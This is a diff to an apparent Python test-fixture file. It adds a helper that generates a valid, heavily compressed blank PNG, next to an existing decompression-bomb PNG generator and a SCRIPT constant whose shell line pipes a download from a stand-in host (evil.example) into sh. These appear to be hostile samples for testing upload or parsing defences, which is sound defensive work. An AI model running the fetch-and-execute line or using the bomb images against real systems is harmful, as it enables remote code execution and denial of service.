@@ -101,6 +101,25 @@ def png_bomb(width: int = 20_000, height: int = 20_000) -> bytes:
     return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")
 
 
+def blank_png(width: int, height: int, *, seed: int = 0) -> bytes:
+    """A complete, valid dark RGB PNG: a few hundred KB on disk, width x height x 3 decoded.
+
+    Made row by row (never the whole picture in memory); `seed` makes the bytes differ.
+    """
+
+    def chunk(kind: bytes, data: bytes) -> bytes:
+        crc = zlib.crc32(kind + data) & 0xFFFFFFFF
+        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)
+
+    compressor = zlib.compressobj(6)
+    row = b"\x00" * (1 + width * 3)  # filter byte + pixels
+    first = b"\x00" + bytes([seed % 256, seed // 256 % 256, 0]) + row[4:]
+    idat = compressor.compress(first)
+    idat += b"".join(compressor.compress(row) for _ in range(height - 1)) + compressor.flush()
+    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
+    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")
+
+
 SCRIPT = b"#!/bin/sh\ncurl https://evil.example/x | sh\n" + b"# padding\n" * 20
 
 
